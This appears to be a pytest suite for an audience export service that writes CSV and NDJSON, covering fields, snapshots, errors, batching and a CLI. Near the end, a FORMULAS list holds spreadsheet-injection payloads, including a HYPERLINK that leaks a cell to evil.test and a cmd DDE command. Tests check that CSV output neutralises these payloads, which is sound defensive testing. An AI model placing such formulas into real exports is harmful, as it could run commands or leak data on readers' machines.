"""Audience export: CSV and NDJSON content, chosen fields, errors, and rows fetched in id batches."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from psycopg import AsyncConnection
from psycopg_pool import AsyncConnectionPool

from store.audiences import export as member_export
from store.brands import brand_by_code
from tests.audience_seed import Seeded, catch_up, has_wechat, reference_ids, seed, tier_of
from tests.conftest import GraphQL, new_brand
from tests.fragments import REGISTER
from tests.server import OMNIMEMBER


@pytest.fixture
async def seeded(pool: AsyncConnectionPool[Any]) -> Seeded:
    return await seed(pool)


async def test_csv_of_an_expression_with_chosen_fields(
    pool: AsyncConnectionPool[Any], client: httpx.AsyncClient, seeded: Seeded
) -> None:
    expression = "tag:vip AND NOT tag:churn_risk"
    response = await client.get(
        "/audiences/export",
        params={"brand": seeded.code, "expression": expression, "fields": "id,brand,tier,maskedPhone,channel:wechat"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["id", "brand", "tier", "maskedPhone", "channel:wechat"]
    expected = await reference_ids(pool, seeded.brand_id, expression)
    assert [int(row[0]) for row in rows[1:]] == expected
    assert response.headers["x-member-count"] == str(len(expected))
    position = {member: i for i, member in enumerate(seeded.ids)}
    for member, brand, tier, phone, wechat in rows[1:]:
        i = position[int(member)]
        assert (brand, tier, phone) == (seeded.code, tier_of(i), f"138****{i:04d}")
        assert wechat == (f"wx_{member}" if has_wechat(i) else "")


async def test_ndjson_of_an_expression(client: httpx.AsyncClient, seeded: Seeded) -> None:
    response = await client.get(
        "/audiences/export",
        params={
            "brand": seeded.code,
            "expression": "channel:wechat",
            "format": "ndjson",
            "fields": "id,channel:wechat",
        },
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/x-ndjson")
    records = [json.loads(line) for line in response.text.splitlines()]
    expected = [m for i, m in enumerate(seeded.ids) if has_wechat(i)]
    assert records == [{"id": m, "channel:wechat": [f"wx_{m}"]} for m in expected]


async def test_a_saved_audience_exports_its_frozen_snapshot(
    pool: AsyncConnectionPool[Any], client: httpx.AsyncClient, gql: GraphQL, seeded: Seeded
) -> None:
    save = """mutation ($b: String!) {
      saveAudience(brand: $b, name: "vip", expression: "tag:vip") {
        ... on AudienceSaved { audience { id } snapshot { id count } }
      }
    }"""
    saved = (await gql(save, b=seeded.code))["saveAudience"]
    audience_id = saved["audience"]["id"]
    expected = await reference_ids(pool, seeded.brand_id, "tag:vip")
    # Changed afterwards: the export still gives the snapshot's members.
    async with pool.connection() as conn:
        await conn.execute("DELETE FROM member_tags WHERE member_id = %s", (expected[0],))
    response = await client.get(f"/audiences/{audience_id}/export", params={"format": "ndjson"})
    assert response.status_code == 200, response.text
    assert [json.loads(line)["id"] for line in response.text.splitlines()] == expected
    assert set(json.loads(response.text.splitlines()[0])) == set(member_export.DEFAULT_FIELDS)
    again = await client.get(f"/audiences/{audience_id}/export", params={"snapshot": saved["snapshot"]["id"]})
    assert len(again.text.splitlines()) == 1 + len(expected)


@pytest.mark.parametrize(
    ("path", "params", "status", "error"),
    [
        ("/audiences/export", {"expression": "tag:vip"}, 400, {"code": "INVALID_INPUT", "parameter": "brand"}),
        ("/audiences/export", {"brand": "{brand}"}, 400, {"code": "INVALID_INPUT", "parameter": "expression"}),
        (
            "/audiences/export",
            {"brand": "{brand}", "expression": "tag:vip AND tier:golld"},
            400,
            {"code": "INVALID_EXPRESSION", "reason": "UNKNOWN_VALUE", "line": 1, "column": 18, "suggestion": "gold"},
        ),
        (
            "/audiences/export",
            {"brand": "{brand}", "expression": "tag:vip", "format": "xml"},
            400,
            {"code": "INVALID_INPUT", "parameter": "format"},
        ),
        (
            "/audiences/export",
            {"brand": "{brand}", "expression": "tag:vip", "fields": "id,phone"},
            400,
            {"code": "INVALID_INPUT", "parameter": "fields"},
        ),
        (
            "/audiences/export",
            {"brand": "{brand}", "expression": "tag:vip", "fields": "id,channel:myspace"},
            400,
            {"code": "INVALID_INPUT", "parameter": "fields"},
        ),
        ("/audiences/export", {"brand": "no_such_brand", "expression": "tag:vip"}, 404, {"code": "UNKNOWN_BRAND"}),
        ("/audiences/999999999/export", {}, 404, {"code": "UNKNOWN_AUDIENCE", "parameter": "id"}),
        ("/audiences/abc/export", {}, 404, {"code": "UNKNOWN_AUDIENCE"}),
    ],
)
async def test_bad_parameters(
    client: httpx.AsyncClient, seeded: Seeded, path: str, params: dict[str, str], status: int, error: dict[str, Any]
) -> None:
    params = {key: value.replace("{brand}", seeded.code) for key, value in params.items()}
    response = await client.get(path, params=params)
    assert response.status_code == status, response.text
    body = response.json()["error"]
    assert {key: body.get(key) for key in error} == error
    assert body["message"]


async def test_a_larger_audience_is_read_in_id_batches(
    pool: AsyncConnectionPool[Any], client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    large = await seed(pool, count=3_000)
    batches: list[int] = []
    real = member_export.member_rows

    async def counted(
        conn: AsyncConnection[Any], brand_id: int, ids: Sequence[int], channels: Sequence[str]
    ) -> list[dict[str, Any]]:
        batches.append(len(ids))
        return await real(conn, brand_id, ids, channels)

    monkeypatch.setattr(member_export, "BATCH", 400)
    monkeypatch.setattr(member_export, "member_rows", counted)
    response = await client.get(
        "/audiences/export", params={"brand": large.code, "expression": "NOT tag:vip", "fields": "id,tier"}
    )
    assert response.status_code == 200, response.text
    expected = [m for i, m in enumerate(large.ids) if i % 2 == 1]
    lines = response.text.splitlines()
    assert lines[0] == "id,tier"
    assert [int(line.split(",")[0]) for line in lines[1:]] == expected
    # 1,500 members in batches of at most 400: four statements, never one for the whole audience.
    assert batches == [400, 400, 400, 300]

    # Ids alone need no member row: the same export of `id` reads none and writes the same ids.
    batches.clear()
    response = await client.get(
        "/audiences/export", params={"brand": large.code, "expression": "NOT tag:vip", "fields": "id"}
    )
    assert response.status_code == 200, response.text
    assert response.text.splitlines() == ["id", *map(str, expected)]
    assert batches == []


def _cli(database_url: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "DATABASE_URL": database_url}
    return subprocess.run([*OMNIMEMBER, "audience", *arguments], capture_output=True, text=True, env=env, check=False)


async def test_cli_count_and_export(
    pool: AsyncConnectionPool[Any], database_url: str, seeded: Seeded, tmp_path: Path
) -> None:
    expression = "tag:vip AND NOT tag:churn_risk"
    expected = await reference_ids(pool, seeded.brand_id, expression)
    counted = await asyncio.to_thread(_cli, database_url, "count", expression, "--brand", seeded.code)
    assert counted.returncode == 0, counted.stderr
    assert counted.stdout == f"{len(expected)}\n"
    assert "tag:vip AND NOT tag:churn_risk" in counted.stderr

    target = tmp_path / "out.ndjson"
    exported = await asyncio.to_thread(
        _cli, database_url, "export", expression, "--brand", seeded.code,
        "--format", "ndjson", "--fields", "id,tier", "--output", str(target),
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    records = [json.loads(line) for line in target.read_text().splitlines()]
    position = {member: i for i, member in enumerate(seeded.ids)}
    assert records == [{"id": m, "tier": tier_of(position[m])} for m in expected]

    to_stdout = await asyncio.to_thread(_cli, database_url, "export", "channel:wechat", "--brand", seeded.code)
    assert to_stdout.stdout.splitlines()[0] == "id,tier,maskedPhone"
    assert len(to_stdout.stdout.splitlines()) == 1 + sum(1 for i in range(len(seeded.ids)) if has_wechat(i))


async def test_cli_reports_a_bad_expression_with_its_caret(database_url: str, seeded: Seeded) -> None:
    failed = await asyncio.to_thread(_cli, database_url, "count", "tag:vip AND tier:golld", "--brand", seeded.code)
    assert failed.returncode == 1
    assert failed.stderr == (
        "error: unknown tier 'golld' at 1:18, did you mean 'gold'?\ntag:vip AND tier:golld\n                 ^^^^^\n"
    )


@pytest.mark.parametrize(
    ("format", "fields"), [("csv", "id"), ("csv", "brand,id"), ("ndjson", "id,brand"), ("ndjson", "brand")]
)
def test_rowless_exports_write_what_the_row_path_writes(format: str, fields: str) -> None:
    """Fields that need no member row are rendered from the ids alone, byte for byte as rows would be."""
    rng = np.random.default_rng(7)
    ids = np.unique(np.concatenate([np.arange(12), rng.integers(0, 10**12, 5_000)])).astype(np.int64)
    layout = member_export.layout(format, fields)
    template = member_export._rowless_template(layout, "teahouse")
    assert template is not None
    render = member_export._csv if format == "csv" else member_export._ndjson
    by_rows = "".join(render(member_export._record({"id": i}, "teahouse", layout)) for i in ids.tolist())
    assert member_export.rowless_lines(ids, *template) == by_rows
    assert member_export._rowless_template(member_export.layout(format, "id,tier"), "teahouse") is None


FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]


async def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    pool: AsyncConnectionPool[Any], client: httpx.AsyncClient, gql: GraphQL
) -> None:
    """Found at 9bd6195 (issue 12, item 7): a city `=HYPERLINK(...)` or an external id
    `=cmd|'/C calc'!A0`, stored through registerMember, was exported as is and ran in a spreadsheet.
    In CSV such a cell is quoted with a `'` in front (OWASP); NDJSON keeps the value as stored."""
    brand = await new_brand(pool)
    for n, text in enumerate(FORMULAS):
        registered = await gql(REGISTER, brand=brand, channel="wechat", externalId=text, city=text[:64])
        assert registered["registerMember"]["__typename"] == "MemberRegistered", (n, registered)
    async with pool.connection() as conn:
        brand_id = (await brand_by_code(conn, brand))["id"]
    await catch_up(pool, brand_id)
    params = {"brand": brand, "expression": "channel:wechat", "fields": "id,city,channel:wechat"}

    response = await client.get("/audiences/export", params=params)
    assert response.status_code == 200, response.text
    lines = response.text.splitlines()
    rows = list(csv.reader(io.StringIO(response.text)))[1:]
    assert [row[1:] for row in rows] == [["'" + text, "'" + text] for text in FORMULAS]
    for line, text in zip(lines[1:], FORMULAS, strict=True):
        quoted = "\"'" + text.replace('"', '""') + '"'
        assert line.split(",", 1)[1] == f"{quoted},{quoted}"

    response = await client.get("/audiences/export", params={**params, "format": "ndjson"})
    records = [json.loads(line) for line in response.text.splitlines()]
    assert [(r["city"], r["channel:wechat"]) for r in records] == [(text, [text]) for text in FORMULAS]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", '"\'=1+1"'),
        ("\tx", '"\'\tx"'),
        ("\rx", '"\'\rx"'),
        ("a=b", "a=b"),
        ("a,b", '"a,b"'),
        ("a\rb", '"a\rb"'),  # a bare carriage return would end the row for many readers
        ("", ""),
    ],
)
def test_csv_cells(value: str, cell: str) -> None:
    assert member_export._csv_line([1, value]) == f"1,{cell}\n"
